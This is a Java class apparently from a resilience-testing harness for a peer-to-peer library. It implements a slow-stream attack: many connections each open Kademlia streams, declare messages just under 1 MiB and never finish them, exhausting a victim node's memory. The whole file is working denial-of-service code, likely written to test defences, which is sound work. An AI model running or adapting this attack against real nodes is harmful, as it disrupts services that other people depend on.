package io.github.p2pboot.hostile;

import io.github.p2pboot.codec.Varint;
import io.github.p2pboot.identity.PrivateKey;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;

/**
 * Streams that each start a Kademlia message of just under 1 MiB (the victim's limit) and never
 * finish it: the victim buffers what came so far for as long as the stream lives.
 */
final class SlowStreams implements Siege.Attack {

    static final int MESSAGE = 1024 * 1024 - 1;
    /** What each stream sends of its message: all but the last 64 KiB. */
    static final int SENT = MESSAGE - 64 * 1024;

    private final Victim victim;
    private final int connections;
    private final int streamsEach;
    private final List<RawTcpPeer> peers = new ArrayList<>();

    SlowStreams(Victim victim, int connections, int streamsEach) {
        this.victim = victim;
        this.connections = connections;
        this.streamsEach = streamsEach;
    }

    @Override
    public String run() throws Exception {
        long start = System.nanoTime();
        PrivateKey identity = PrivateKey.generateEd25519();
        List<CompletableFuture<Long>> floods = new ArrayList<>();
        for (int c = 0; c < connections; c++) {
            RawTcpPeer peer = Attacks.tcp(victim, identity);
            peers.add(peer);
            int[] ids = new int[streamsEach];
            long[] left = new long[streamsEach];
            for (int s = 0; s < streamsEach; s++) {
                ids[s] = peer.openStream(KademliaFlood.PROTOCOL, false);
                peer.channel().write(peer.data(ids[s], 0, Unpooled.wrappedBuffer(Varint.encode(MESSAGE))), peer.channel().voidPromise());
                left[s] = SENT;
            }
            peer.channel().flush();
            int[] turn = {0};
            floods.add(peer.flood(new Flood.Source() {
                @Override
                public ByteBuf next() {
                    // Round robin over the streams that still have bytes to send and window to send them in.
                    for (int tries = 0; tries < streamsEach; tries++) {
                        int s = turn[0]++ % streamsEach;
                        long window = peer.sendWindow(ids[s]);
                        if (left[s] > 0 && window > 0) {
                            int n = (int) Math.min(Math.min(left[s], window), 64 * 1024);
                            left[s] -= n;
                            return peer.data(ids[s], 0, Attacks.junk(n));
                        }
                    }
                    return null;
                }

                @Override
                public boolean exhausted() {
                    for (long l : left) {
                        if (l > 0) {
                            return false;
                        }
                    }
                    return true;
                }
            }, Long.MAX_VALUE, Attacks.STALL, Attacks.FLOOD_LIMIT).done());
        }
        long sent = Attacks.joinAll(floods, Attacks.FLOOD_LIMIT.plusSeconds(10)).stream().mapToLong(Long::longValue).sum();
        long open = peers.stream().filter(RawTcpPeer::isOpen).count();
        return "unfinished messages: " + connections + " connections × " + streamsEach + " Kademlia streams, each sent "
                + Attacks.mib(SENT) + " of a " + Attacks.mib(MESSAGE) + " message: " + Attacks.mib(sent) + " taken by the victim in "
                + Attacks.seconds(start) + "; " + open + " connections open";
    }

    @Override
    public void close() {
        peers.forEach(RawTcpPeer::close);
    }
}
